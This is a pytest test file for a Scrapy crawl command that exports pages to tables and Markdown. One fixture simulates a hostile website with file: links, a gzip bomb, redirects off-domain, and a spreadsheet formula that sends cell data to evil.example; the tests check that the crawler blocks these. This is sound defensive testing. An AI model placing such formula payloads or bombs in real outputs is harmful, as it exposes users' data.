"""``scrapy stemmer crawl``: from an address to a table, lines or a folder of Markdown, without a project."""

from __future__ import annotations

import codecs
import csv
import gzip
import json
import shlex
import signal
import subprocess
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from scrapy import Request, Spider
from scrapy.settings import Settings
from scrapy.utils.url import url_is_from_any_domain

from scrapy_stemmer import PatternSet, StemmerError
from scrapy_stemmer.commands.crawl_site import POLITE, _check_columns, _site_of, columns_of
from scrapy_stemmer.commands.known_pages import KnownPages
from scrapy_stemmer.commands.page_feeds import KEPT, OutputStorage, PageFeeds
from scrapy_stemmer.commands.page_forms import PageForm
from scrapy_stemmer.outputs.files import file_path_of
from scrapy_stemmer.page.blocks import Reason
from tests import processes
from tests.commands.subcommand import run
from tests.commands.test_commands import one_after_another
from tests.crawl.website import NAVIGATION, Answer, Article, Website, links_to
from tests.documentation import the_block
from tests.processes import until

pytestmark = pytest.mark.slow

Crawl = Callable[..., subprocess.CompletedProcess[str]]

BRIDGE = "/town/weir-bridge-closes.html"


@pytest.fixture
def crawl_sites(tmp_path: Path, scratch: Path) -> Crawl:
    """Crawl sites without delay."""
    words = ("stemmer", "crawl", "-s", "DOWNLOAD_DELAY=0")
    return lambda *arguments: processes.scrapy(*words, *arguments, folder=tmp_path, scratch=scratch)


@pytest.fixture
def crawl(port: int, crawl_sites: Crawl) -> Crawl:
    """Crawl the newspaper of the demo."""
    return lambda *arguments, path="/": crawl_sites(f"http://localhost:{port}{path}", *arguments)


def rows_of(table: Path) -> list[dict[str, str]]:
    with table.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_the_command_of_the_readme_writes_a_table(crawl_sites: Crawl, port: int, tmp_path: Path) -> None:
    (line,) = the_block("README.md", "stemmer crawl", "sh").splitlines()
    done = crawl_sites(*shlex.split(line.replace("https://example.com", f"http://localhost:{port}"))[3:])
    assert done.returncode == 0, done.stderr
    rows = rows_of(tmp_path / "articles.csv")
    assert list(rows[0]) == ["url", "title", "authors", "published", "text", "kind", "confidence", "reason"]
    assert len({row["url"] for row in rows}) == len(rows) > 25
    assert all(row["title"] and row["text"] for row in rows)
    signed = [row for row in rows if "/guides/" not in row["url"]]  # a guide names its reviewer
    assert all(row["authors"] and row["published"].startswith("202") for row in signed)
    assert {row["kind"] for row in rows} == {"content"}
    (bridge,) = [row for row in rows if row["url"].endswith(BRIDGE)]
    assert bridge["title"] == "Old Weir Bridge to close for eleven weeks from Easter Monday"
    assert (bridge["authors"], bridge["published"][:10]) == ("Marta Quill", "2025-03-04")
    assert "Subscribe" not in bridge["text"]
    assert done.stdout == f"{len(rows)} pages now in articles.csv\n"
    assert "of the kind list (for all kinds: -s STEMMER_KINDS=)" in done.stderr
    told = "Ctrl-C ends it. Each page is put into articles.csv when its site is learned."
    assert f"Crawling localhost:{port}. {told}\n" in done.stderr
    (patterns,) = (tmp_path / "patterns").glob("localhost*.jsonl")
    assert PatternSet.load(str(patterns)).sites == (f"localhost:{port}",)


def test_several_outputs_with_all_fields_also_of_lists(crawl: Crawl, tmp_path: Path) -> None:
    done = crawl("-o", "pages.jsonl.gz", "-o", "texts", "-o", "t.csv.gz", "--fields", "-s", "STEMMER_KINDS=")
    assert done.returncode == 0, done.stderr
    pages = [json.loads(line) for line in gzip.decompress((tmp_path / "pages.jsonl.gz").read_bytes()).splitlines()]
    assert {page["kind"] for page in pages} >= {"content", "list"}
    (bridge,) = [page for page in pages if page["url"].endswith(BRIDGE)]
    assert (bridge["authors"], bridge["language"], bridge["skipped_hidden"]) == (["Marta Quill"], "en", 0)
    assert bridge["html"].startswith("<")
    assert done.stdout == f"{len(pages)} pages now in pages.jsonl.gz, texts, t.csv.gz\n"
    with gzip.open(tmp_path / "t.csv.gz", "rt", encoding="utf-8", newline="") as file:
        assert [row["url"] for row in csv.DictReader(file)] == [page["url"] for page in pages]
    assert len(list((tmp_path / "texts").rglob("*.md"))) == len(pages)
    text = next((tmp_path / "texts").rglob("weir-bridge-closes.md")).read_text(encoding="utf-8")
    assert 'title: "Old Weir Bridge to close' in text
    assert 'authors: ["Marta Quill"]' in text
    assert "\n## A long way round\n" in text


FAST = ("-s", "DOWNLOAD_DELAY=0.05")


class Running:
    """A crawl of a site without end, which puts its pages into ``x.csv``, and of one page that never comes.

    :param more: further arguments of the command.
    """

    def __init__(self, website: Website, folder: Path, scratch: Path, *more: str) -> None:
        for number in range(400):
            links = links_to({f"/{number + 1}": "next", f"/{2 * number + 5}": "more"})
            website.add(f"/{number}", Article(number).html(links))
        website.add("/slow", "", when=lambda: False)
        self.out, self.err, self.table = scratch / "out.txt", scratch / "err.txt", folder / "x.csv"
        urls = [website.url("/0"), website.url("/slow", "localhost")]
        words = ["stemmer", "crawl", *urls, "-o", "x.csv", *FAST, *more]
        earlier = self.table.stat().st_ino if self.table.exists() else None
        self.process = processes.start(processes._scrapy, words, out=self.out, err=self.err, folder=folder)
        until(lambda: bool(self.rows()) and self.table.stat().st_ino != earlier)

    def rows(self) -> list[dict[str, str]]:
        return rows_of(self.table) if self.table.exists() else []


@pytest.mark.parametrize("signals", [["SIGTERM"], ["SIGHUP", "SIGHUP"]])
def test_a_signal_ends_it_soon(signals: list[str], website: Website, tmp_path: Path, scratch: Path) -> None:
    """A terminal that is closed may send SIGHUP twice, and Ctrl-C twice would leave out the orderly end."""
    running = Running(website, tmp_path, scratch)
    for name in signals:
        running.process.send_signal(signal.Signals[name])
    assert running.process.wait() == 130  # Scrapy would wait 180 seconds for the page that never comes
    assert running.out.read_text(encoding="utf-8") == f"{len(running.rows())} pages now in x.csv\n"
    assert running.err.read_text(encoding="utf-8").endswith("scrapy stemmer crawl: interrupted\n")


def test_an_output_in_use(website: Website, tmp_path: Path, scratch: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    running = Running(website, tmp_path, scratch, "--left-out", "left.csv")
    Path("link.csv").symlink_to("x.csv")
    for words in (["-o", "x.csv"], ["-o", "link.csv"], ["-o", "y.csv", "--left-out", "left.csv"]):
        for more in ([], ["--new"]):
            with pytest.raises(StemmerError, match=f"{words[-1]} is in use: another crawl is writing it"):
                run("crawl", "http://b.example/", *words, *more)
    running.process.send_signal(signal.SIGINT)
    running.process.wait()
    assert running.rows()
    assert not list(tmp_path.glob(".*.lock"))


def test_a_killed_crawl_has_pages(website: Website, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    killed = Running(website, tmp_path, tmp_path_factory.mktemp("printed"))
    killed.process.kill()
    killed.process.wait()
    rows = killed.rows()
    assert rows
    following = Running(website, tmp_path, tmp_path_factory.mktemp("printed"))
    following.process.send_signal(signal.SIGINT)
    following.process.wait()
    told = following.err.read_text(encoding="utf-8")
    assert "x.csv of an earlier crawl is kept as x.csv.1 until this one has ended.\n" in told
    assert "The pages of an earlier crawl are still in x.csv.1.\n" in told
    killed.table = tmp_path / "x.csv.1"
    assert killed.rows()[: len(rows)] == rows
    assert following.rows()


def test_a_crawl_without_a_page_leaves_the_file_that_is_there(crawl: Crawl, tmp_path: Path) -> None:
    (tmp_path / "articles.csv").write_text("mine")
    done = crawl("-o", "articles.csv", path="/nothing")
    assert done.returncode == 1
    assert "left out: 1 page: HTTP status 404" in done.stderr
    assert "No page of localhost" in done.stderr
    assert [path.name for path in tmp_path.glob("articles*")] == ["articles.csv"]
    assert (tmp_path / "articles.csv").read_text() == "mine"


def test_a_crawl_stops_after_max_pages_and_replaces_the_file_that_was_there(crawl: Crawl, tmp_path: Path) -> None:
    (tmp_path / "articles.csv").write_text("earlier")
    done = crawl("-o", "articles.csv", "--max-pages", 10)
    assert done.returncode == 0, done.stderr
    assert [path.name for path in tmp_path.glob("articles*")] == ["articles.csv"]
    assert (tmp_path / "articles.csv").read_text(encoding="utf-8").startswith("url,")
    assert 0 < len(rows_of(tmp_path / "articles.csv")) <= 10
    assert "articles.csv.1 until this one has ended" in done.stderr
    done = crawl("-o", "articles.csv", "--max-pages", 10, "--new")
    assert "kept as articles.csv.1: --new knows none of its pages, so all count as new." in done.stderr
    assert "when its site is learned" not in done.stderr
    assert "STEMMER_HOLD" not in done.stderr


FORMULA = '=HYPERLINK("http://evil.example/?"&amp;A1,"Click")'


@pytest.fixture(scope="module")
def of_hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Website, str]]:
    """Crawl a site that does what it should not; return the folder, the site and the notes."""
    folder, scratch = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("printed")
    (folder / "secret.html").write_text(Article(1000).html())
    local = f"//localhost{folder}/secret.html"
    links = {f"/{number}": "more" for number in range(12)} | {
        f"file:{local}": "secret",
        f"ftp:{local}": "secret",
        "data:text/html,secret": "secret",
        "/redirected": "redirected",
        "/refreshed": "refreshed",
        "/base": "base",
        "/nowhere": "nowhere",
        "/bomb": "bomb",
        "/private": "private",
        "/paper": "paper",
        "/gone": "gone",
        "/elsewhere": "elsewhere",
        "/elsewhere2": "elsewhere",
    }
    with Website() as website:
        website.add("/robots.txt", "User-agent: *\nDisallow: /private\nCrawl-delay: 0.06", content_type="text/plain")
        for number in range(12):
            website.add(
                f"/{number}",
                Article(number).html(links_to(links)).replace("<h1", f"<link rel=canonical href='file:{local}'><h1"),
            )
        website.add("/3", Article(3).html().replace(Article(3).headline, FORMULA))
        website.add("/redirected", "", status=302, headers={"Location": f"file:{local}"})
        website.add("/refreshed", f"<meta http-equiv=refresh content='0;url=file:{local}'>" + Article(20).html())
        website.add("/base", Article(21).html().replace("<title>", "<base href='http://['><title>"))
        website.add("/nowhere", "<meta http-equiv=refresh content='0;url=javascript:1'>" + Article(23).html())
        bomb = gzip.compress(b"<b>x</b>" * 500_000, 9)
        website.add("/bomb", bomb, headers={"Content-Encoding": "gzip"})
        website.add("/private", Article(22).html())
        website.add("/paper", b"%PDF-1.7", content_type="application/pdf")
        for path in ("/elsewhere", "/elsewhere2"):
            website.add(path, "", status=302, headers={"Location": "http://127.0.0.2/"})
        more = ("-o", "x.csv", "-o", "x.md", "--left-out", "left.csv", "-s", "FEED_EXPORT_ENCODING=utf-8-sig")
        words = ["crawl", website.url("/0", "localhost"), *more, *FAST, "-s", "DOWNLOAD_MAXSIZE=1000000"]
        done = processes.scrapy("stemmer", *words, folder=folder, scratch=scratch)
        assert done.returncode == 0, done.stderr
        yield folder, website, done.stderr


def test_a_site_leads_to_no_file_of_this_machine(of_hostile_site: tuple[Path, Website, str]) -> None:
    folder, _, _ = of_hostile_site
    assert Article(1000).headline not in (folder / "x.csv").read_text(encoding="utf-8-sig")


def test_pages_that_are_not_written_are_named_with_their_reasons(of_hostile_site: tuple[Path, Website, str]) -> None:
    folder, website, told = of_hostile_site
    front = website.url("/", "localhost")
    left_out = {row["url"].removeprefix(front): row["reason"] for row in rows_of(folder / "left.csv")}
    assert {path: reason for path, reason in left_out.items() if path not in NAVIGATION.split()} == {
        "private": "forbidden by robots.txt",
        "gone": "HTTP status 404",
        "bomb": "larger than DOWNLOAD_MAXSIZE",
        "paper": "no HTML",
        "redirected": "HTTP status 302",
        "http://127.0.0.2/": "on another domain",
    }
    assert "left out: 1 page: forbidden by robots.txt\n" in told
    assert "left out: 1 page: on another domain\n" in told
    assert f"  {website.url('/private', 'localhost')} (forbidden by robots.txt)\n" in told


@pytest.mark.parametrize("path", ["/base", "/nowhere"])
def test_a_page_with_a_broken_base_or_refresh_is_written(path: str, of_hostile_site: tuple[Path, Website, str]) -> None:
    folder, website, _ = of_hostile_site
    with (folder / "x.csv").open(encoding="utf-8-sig", newline="") as file:
        assert website.url(path, "localhost") in {row["url"] for row in csv.DictReader(file)}


def test_a_spreadsheet_shows_formulas_of_pages_as_text(of_hostile_site: tuple[Path, Website, str]) -> None:
    folder, website, _ = of_hostile_site
    content = (folder / "x.csv").read_bytes()
    assert content.count(codecs.BOM_UTF8) == 1
    rows = {row["url"]: row for row in csv.DictReader(content.decode("utf-8-sig").splitlines(keepends=True))}
    assert rows[website.url("/3", "localhost")]["title"].startswith("'=HYPERLINK")
    assert codecs.BOM_UTF8 not in (folder / "x.md").read_bytes()


def test_the_command_crawl_waits_as_long_as_robots_txt_asks(of_hostile_site: tuple[Path, Website, str]) -> None:
    assert "localhost asks for 0.06 seconds between two pages (Crawl-delay in robots.txt)\n" in of_hostile_site[2]


@pytest.mark.parametrize(
    ("url", "site"),
    [
        ("http://bücher.example/", "xn--bcher-kva.example"),
        ("https://www.BÜCHER.example:8000/x", "xn--bcher-kva.example:8000"),
        ("http://xn--bcher-kva.example/", "xn--bcher-kva.example"),
        ("http://me:word@a.example/", "a.example"),
        ("http://[::1]:8000/x", "[::1]:8000"),
    ],
)
def test_a_site_has_the_host_that_its_pages_are_asked_from(url: str, site: str) -> None:
    assert _site_of(url) == site
    assert url_is_from_any_domain(Request(url).url.replace("me:word@", ""), [site])


def test_a_site_that_is_named_by_its_ipv6_address_is_crawled(crawl_sites: Crawl, tmp_path: Path) -> None:
    try:
        website = Website("::1")
    except OSError:
        pytest.skip("the system has no IPv6")
    with website:
        website.add_articles(4)
        done = crawl_sites(website.url("/article/", "[::1]"), "-o", "x.csv", *FAST)
    assert done.returncode == 0, done.stderr
    urls = {row["url"] for row in rows_of(tmp_path / "x.csv")}
    assert urls >= {website.url(f"/article/{number}.html", "[::1]") for number in range(4)}


class Returning(dict[str, Answer]):
    """Answers of a site on which a first request is redirected to the same address, by way of another one or not."""

    SHARING = ("/article/3", "/article/4", "/article/5")  # pages redirected to one address, which knows one of them

    def __init__(self, website: Website) -> None:
        super().__init__()
        self._website = website

    def get(self, path: str, default: Any = None) -> Any:
        """Return the answer to a path that was asked for."""
        page, first = super().get(path, default), self._website.asked.count(path) == 1
        to = f"/cookie?{path}" if path.startswith("/article/1") else path.removeprefix("/cookie?")
        if path.startswith(self.SHARING):
            to = "/setcookie"
        elif path == "/setcookie":
            to = next(asked for asked in self._website.asked if asked.startswith(self.SHARING))
        if path.startswith("/article/2") and first:
            return Answer(f"<meta http-equiv=refresh content='0; url={to}'>".encode())
        if path.startswith(("/cookie?", "/setcookie", "/endless")) or (page is not None and first):
            return Answer(b"", status=302, headers={"Location": to})
        return page


def test_a_page_that_is_redirected_to_itself_is_written(website: Website, crawl_sites: Crawl, tmp_path: Path) -> None:
    website.answers = Returning(website)
    website.add_articles(8)
    urls = map(website.url, ("/article/", "/endless"))
    done = crawl_sites(*urls, "-o", "x.csv", "--no-sitemaps", "-s", "REDIRECT_MAX_TIMES=4")
    assert done.returncode == 0, done.stderr
    written = sorted(row["url"] for row in rows_of(tmp_path / "x.csv"))
    assert written == [website.url(f"/article/{number}.html") for number in range(8)]
    assert f"{website.url('/endless')} (failed (redirected more often than REDIRECT_MAX_TIMES))" in done.stderr
    assert website.asked.count("/endless") == 5
    assert website.asked.count("/cookie?/article/1.html") == 1
    assert website.asked.count("/article/7.html") == 2
    assert sorted(website.asked.count(f"/article/{number}.html") for number in (3, 4, 5)) == [2, 2, 2]


class Newspaper:
    """A newspaper with a front page of the latest articles, older lists, and perhaps a feed.

    :param has_feed: whether the front page names a feed of the latest articles.
    """

    LATEST = 12

    def __init__(self, website: Website, *, has_feed: bool) -> None:
        self.website, self.has_feed, self.articles = website, has_feed, 0
        website.add("/robots.txt", "", content_type="text/plain")

    def publish(self, count: int) -> None:
        first, self.articles = self.articles, self.articles + count
        for number in range(first, self.articles):
            self.website.add(f"/story/{number}.html", Article(number).html("<a href='/'>Home</a>"))
        newest = [f"/story/{number}.html" for number in reversed(range(self.articles))]
        pages = [newest[start : start + self.LATEST] for start in range(0, len(newest), self.LATEST)]
        feed = "<link rel='alternate' type='application/rss+xml' href='/feed.xml'>" if self.has_feed else ""
        for number, listed in enumerate(pages):
            links = {url: Article(int(url[7:-5])).headline for url in listed} | {f"/list/{number + 1}": "Older"}
            body = f"<html><head><title>News</title>{feed}</head><body>{links_to(links)}</body></html>"
            self.website.add(f"/list/{number}" if number else "/", body)
        items = "".join(f"<item><link>{url}</link></item>" for url in newest[: self.LATEST])
        self.website.add("/feed.xml", f"<rss><channel>{items}</channel></rss>", content_type="application/rss+xml")


@pytest.mark.parametrize("has_feed", [True, False])
def test_the_second_day_takes_few_requests(
    has_feed: bool, website: Website, crawl_sites: Crawl, tmp_path: Path
) -> None:
    paper = Newspaper(website, has_feed=has_feed)
    for published in (40, 5):
        paper.publish(published)
        website.asked.clear()
        earlier = rows_of(tmp_path / "x.csv") if (tmp_path / "x.csv").exists() else []
        done = crawl_sites(website.url("/", "localhost"), "-o", "x.csv", "--new")
        assert done.returncode == 0, done.stderr
        rows = rows_of(tmp_path / "x.csv")
        assert rows[: len(earlier)] == earlier
        assert len({row["url"] for row in rows}) == len(rows) == paper.articles
        if earlier:
            assert done.stdout == f"{published} new pages now in x.csv\n"
            assert len(website.asked) <= 3 * published


def test_pages_that_have_changed_are_written_again(website: Website, crawl_sites: Crawl, tmp_path: Path) -> None:
    """Story 1 has another text, and story 2 another comment in its HTML; the even ones have an ETag."""

    def crawled(output: str, option: str) -> str:
        done = crawl_sites(website.url("/", "localhost"), "-o", output, "-o", "texts", option)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def story(number: int, text: int, year: str = "2025") -> None:
        tag = {"ETag": f'"{text} {year}"'} if number % 2 == 0 else {}
        website.add(f"/story/{number}.html", Article(text).html(padding=year), headers=tag)

    Newspaper(website, has_feed=True).publish(24)
    for number in range(24):
        story(number, number)
    assert crawled("x.csv", "--new") == "24 pages now in x.csv, texts\n"
    assert crawled("changed.csv", "--changed") == "0 new pages, so nothing was written to changed.csv, texts\n"
    assert sorted(website.not_modified) == sorted(f"/story/{number}.html" for number in range(0, 24, 2))
    story(1, 101)
    story(2, 2, "2026")
    assert crawled("changed.csv", "--changed") == "0 new pages and 1 changed now in changed.csv, texts\n"
    (row,) = rows_of(tmp_path / "changed.csv")
    assert row["url"] == website.url("/story/1.html", "localhost")
    assert datetime.fromisoformat(row["changed"]).tzinfo is not None
    assert Article(101).body[0] in row["text"]
    (page,) = (tmp_path / "texts").rglob("1.md")
    assert Article(101).body[0] in page.read_text(encoding="utf-8")
    assert f"\nchanged: {row['changed']}\n" in page.read_text(encoding="utf-8").replace('"', "")
    assert crawled("changed.csv", "--changed") == "0 new pages now in changed.csv, texts\n"


def test_a_written_page_that_fails_to_be_stripped_is_no_changed_one() -> None:
    feeds, left_out = PageFeeds.__new__(PageFeeds), list[tuple[str, str]]()
    feeds.error, feeds.pages = None, 0
    spider = SimpleNamespace(
        since="", digests_of=lambda _: {"text": "1"}, leave_out=lambda *page: left_out.append(page)
    )
    feeds.crawler = cast("Any", SimpleNamespace(spider=spider))
    feeds.item_scraped({"url": "http://a.example/", "reason": Reason.FAILED}, Spider("a"))
    assert (feeds.pages, left_out) == (0, [("http://a.example/", KEPT)])


@pytest.mark.parametrize(
    ("first", "second", "is_changed"),
    [
        ({}, {"price": "2"}, False),
        ({"price": "1"}, {}, False),
        ({"price": "1"}, {"price": "2"}, True),
        ({"price": "1"}, {"price": "1", "was": "3"}, False),
        ({"text": "A storm."}, {"text": "A fire.", "price": "2"}, True),
        ({"authors": ["Ann Lee"]}, {"authors": ["Ann Poe"]}, False),
    ],
)
def test_common_fields_count(first: dict[str, str], second: dict[str, str], is_changed: bool, tmp_path: Path) -> None:
    pages = KnownPages(tmp_path / "seen.sqlite")
    pages.put(b"", url := "http://a.example/", "a.example", role="page", depth=0)
    spider = SimpleNamespace(since="", asks_again=True, known_pages=pages, digests_of=lambda _: pages.digests_of(b""))
    spider.note_done = lambda _, *outcome: pages.done(b"", *outcome)
    feeds = PageFeeds.__new__(PageFeeds)
    feeds._is_markdown, feeds.error, feeds.pages, feeds.changed, feeds.slots = False, None, 0, 0, []
    feeds.crawler = cast("Any", SimpleNamespace(spider=spider))
    for fields in (first, second, second):
        feeds.item_scraped({"url": url, "title": "Night"} | fields, Spider("a"))
    assert (feeds.pages, feeds.changed) == (1 + is_changed, is_changed)
    pages.close()


def test_a_page_without_text_is_no_markdown_and_is_named(website: Website, crawl_sites: Crawl, tmp_path: Path) -> None:
    Newspaper(website, has_feed=True).publish(4)
    done = crawl_sites(website.url("/"), "-o", "texts", *FAST, "-s", "STEMMER_URL_RULES=-/story/2 +.")
    assert done.stdout == "3 pages now in texts\n", done.stderr
    assert {path.name for path in (tmp_path / "texts").rglob("*.md")} == {"0.md", "1.md", "3.md"}
    assert f"{website.url('/story/2.html')} (without text (rejected))" in done.stderr


def test_sites_may_be_named_in_any_order(website: Website, crawl_sites: Crawl, tmp_path: Path) -> None:
    website.add_articles(4)
    urls = [website.url("/article/", host) for host in ("localhost", "127.0.0.1")]
    for named, printed in ((urls, "8 pages"), (urls[::-1], "0 new pages")):
        done = crawl_sites(*named, "-o", "x.csv", "--new", *FAST)
        assert done.stdout == f"{printed} now in x.csv\n", done.stderr
    assert not any(set(path.name) & set(':<>"|?*') for path in tmp_path.rglob("*"))
    assert len(list((tmp_path / "patterns").glob("[!.]*.jsonl"))) == 1


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize(
    ("there", "then"), [("", ""), ("a\n", "a\n"), ("a\r\n", "a\r\n"), ("a", "a\n"), ("ab\nc", "ab\nc\n")]
)
def test_rows_are_added_behind_a_line_break(there: str, then: str, encoding: str, tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(there.encode(encoding) if there else b"")
    options = {"path": path, "earlier": None, "encoding": encoding}
    OutputStorage("output:0", feed_options=options).open(Spider("a")).close()
    assert path.read_bytes() == (then.encode(encoding) if then else b"")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
def test_other_columns_are_not_added_to(encoding: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "patterns").mkdir()
    KnownPages(tmp_path / "patterns" / "a.invalid.seen.sqlite").close()
    table, words = tmp_path / "x.csv", ("crawl", "http://a.invalid/", "-o", "x.csv", "--new")
    table.write_bytes("url,title,text\r\n1,2,3\r\n".encode(encoding))
    with pytest.raises(
        StemmerError, match=r"x\.csv has the columns url, title, text, but --new would add rows of url,"
    ):
        run(*words, FEED_EXPORT_ENCODING=encoding)
    assert table.read_bytes() == "url,title,text\r\n1,2,3\r\n".encode(encoding)


@pytest.mark.parametrize(
    ("there", "added", "advice"),
    [
        ("url,title", "url,title,stock", "but --new would add rows of url, title, stock: .* crawl once without --new"),
        ("url,title", "url,title,changed", "x.csv lacks the column changed of --changed: name another OUTPUT"),
        ("url,title", "url,title,stock,changed", "but --changed would add rows of"),
    ],
)
def test_a_table_with_other_columns_is_refused_with_advice(there: str, added: str, advice: str, tmp_path: Path) -> None:
    (tmp_path / "x.csv").write_text(f"{there}\n")
    with pytest.raises(StemmerError, match=advice):
        _check_columns(str(tmp_path / "x.csv"), {"encoding": "utf-8", "fields": added.split(",")})


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("asked", [(), ("description", "stock")])
def test_a_table_with_the_same_columns_is_added_to(asked: tuple[str, ...], encoding: str, tmp_path: Path) -> None:
    fields = columns_of(PageForm("csv", "plain"), asked)
    (tmp_path / "x.csv").write_bytes(f"{','.join(fields)}\r\n".encode(encoding))
    _check_columns(str(tmp_path / "x.csv"), {"encoding": encoding, "fields": fields})


def test_kills_lose_and_double_no_row(website: Website, tmp_path: Path, scratch: Path) -> None:
    Newspaper(website, has_feed=False).publish(60)
    for answer in website.answers.values():
        answer.seconds = 0.02
    words = ["stemmer", "crawl", website.url("/", "localhost"), "-o", "x.csv", "-o", "x.jsonl", "--new"]
    words += ["-s", "DOWNLOAD_DELAY=0", "-s", "STEMMER_SAMPLE_SIZE=5"]
    for enough in (15, 35):  # answers before the next kill
        before = len(website.asked)
        running = processes.start(processes._scrapy, words, out=scratch / "out.txt", folder=tmp_path)
        until(lambda last=before + enough: len(website.asked) >= last)  # type: ignore[misc]
        running.kill()
        running.wait()
    done = processes.scrapy(*words, folder=tmp_path, scratch=scratch)
    assert done.returncode == 0, done.stderr
    assert "To have them" not in done.stderr  # pages that waited are asked for again
    assert not list(tmp_path.rglob(".scrapy/**/*.sqlite"))
    rows = rows_of(tmp_path / "x.csv")
    assert sorted(row["url"] for row in rows) == sorted(website.url(f"/story/{n}.html", "localhost") for n in range(60))
    lines = map(json.loads, (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines())
    assert [line["url"] for line in lines] == [row["url"] for row in rows]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="the system has no full device")
def test_a_disk_that_becomes_full_ends_the_crawl_with_an_error(crawl: Crawl, port: int, tmp_path: Path) -> None:
    full = tmp_path / "texts" / f"{file_path_of(f'http://localhost:{port}{BRIDGE}')}.md"
    full.parent.mkdir(parents=True)
    full.symlink_to("/dev/full")
    done = crawl("-o", "texts")
    assert done.returncode == 1
    assert "No space left on device" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="the system has no full device")
def test_no_row_is_lost_or_doubled_where_a_disk_has_become_full(crawl: Crawl, tmp_path: Path) -> None:
    """The second output can't take the row that the first has taken."""
    (tmp_path / "full").symlink_to("/dev/full")
    words = ("-o", "x.csv", "-o", "full", "--format", "csv", "--new")
    assert crawl(*words).returncode == 1
    (tmp_path / "full").unlink()
    done = crawl(*words)
    assert done.returncode == 0, done.stderr
    urls = [row["url"] for row in rows_of(tmp_path / "x.csv")]
    assert len(urls) == len(set(urls)) > 25
    assert [row["url"] for row in rows_of(tmp_path / "full")] == urls


SETTINGS = {
    "STEMMER_KINDS=articles": "STEMMER_KINDS = 'articles': must be",
    "DEPTH_LIMIT=abc": "The setting DEPTH_LIMIT can't be 'abc': ",
    "CLOSESPIDER_PAGECOUNT=abc": "The setting CLOSESPIDER_PAGECOUNT can't be 'abc': ",
    "CONCURRENT_REQUESTS_PER_DOMAIN=0": "CONCURRENT_REQUESTS_PER_DOMAIN must be at least 1",
    "DNS_RESOLVER=nowhere": "the setting DNS_RESOLVER can't be used",
    "LOG_ENABLED=perhaps": "The setting LOG_ENABLED can't be 'perhaps': ",
}


def test_a_setting_that_cannot_be_used_ends_it(tmp_path: Path, scratch: Path) -> None:
    printed = scratch / "all.txt"
    commands = [("stemmer", "crawl", "http://a.invalid/", "-o", "x.csv", "-s", setting) for setting in SETTINGS]
    processes.start(one_after_another, commands, out=printed, folder=tmp_path).wait()
    found = printed.read_text().split("\0")
    assert found[1::2] == ["1"] * len(SETTINGS)
    for message, output in zip(SETTINGS.values(), found[::2], strict=False):
        assert message in output
        assert "Traceback" not in output


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (("example.com", "-o", "a.csv"), "example.com: addresses begin with http:// or https://: http://example.com"),
        (("http://", "-o", "a.csv"), "addresses begin with"),
        (("http://[", "-o", "a.csv"), "http://[: Invalid IPv6 URL."),
        (("http://a.example:99999/", "-o", "a.csv"), "http://a.example:99999/: Port out of range"),
        (("http://a.example/", "-o", "/dev/null/x/"), "/dev/null/x: must be a directory that can be written into"),
        (("http://a.example/", "-o", "a.txt"), "A crawl is written as JSON Lines"),
        (
            ("http://a.example/", "-o", "a.json"),
            "its name tells no format. Let it end in .jsonl, .jl, .ndjson, .csv, .md (",
        ),
        (("http://a.example/", "-o", "-"), "A crawl is written as JSON Lines"),
        (("http://a.example/", "-o", "a.csv", "-o", "./a.csv"), "./a.csv would be overwritten, but it is in use"),
    ],
)
def test_what_can_not_be_done_is_told_before_the_crawl(arguments: tuple[str, ...], told: str) -> None:
    with pytest.raises(StemmerError) as raised:
        run("crawl", *arguments)
    assert told in str(raised.value)


@pytest.mark.parametrize(
    "arguments",
    [
        ("-o", "patterns/a.example.jsonl"),
        ("-o", "a.csv", "--left-out", "./patterns/a.example.jsonl"),
        ("-o", "a.csv", "--left-out", "new/../patterns/a.example.jsonl"),
        ("-o", "link/a.example.jsonl"),
        ("-o", "patterns/a.example.seen.sqlite", "--format", "jsonl", "--new"),
        ("-o", "mine.jsonl", "-s", "STEMMER_PATTERNS=./mine.jsonl"),
    ],
)
def test_own_patterns_are_no_output(
    arguments: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("patterns").mkdir()
    Path("link").symlink_to("patterns")
    *words, last = arguments
    settings = dict([last.split("=")]) if words[-1] == "-s" else {}
    with pytest.raises(StemmerError, match="would be overwritten, but it is in use already: name another output"):
        run("crawl", "http://a.example/", *(words[:-1] if settings else arguments), **settings)


def test_compressed_files_are_not_added_to() -> None:
    with pytest.raises(StemmerError, match=r"name OUTPUT without \.gz"):
        run("crawl", "http://a.example/", "-o", "a.csv.gz", "--new")


def test_only_tables_are_written_in_other_encodings() -> None:
    with pytest.raises(StemmerError, match=r"FEED_EXPORT_ENCODING is latin-1, but a\.md is always in UTF-8"):
        run("crawl", "http://a.example/", "-o", "a.md", FEED_EXPORT_ENCODING="latin-1")


@pytest.mark.parametrize("name", ["nope", "rot13"])
def test_an_unknown_encoding_is_told_before_the_crawl(name: str) -> None:
    with pytest.raises(StemmerError, match=f"FEED_EXPORT_ENCODING must be .*, not {name!r}"):
        run("crawl", "http://a.example/", "-o", "a.csv", FEED_EXPORT_ENCODING=name)


def test_the_command_crawl_refuses_a_jobdir() -> None:
    with pytest.raises(StemmerError, match="can't be paused"):
        run("crawl", "http://a.example/", "-o", "a.csv", JOBDIR="job")


def test_the_command_crawl_is_as_polite_as_a_new_project() -> None:
    import scrapy

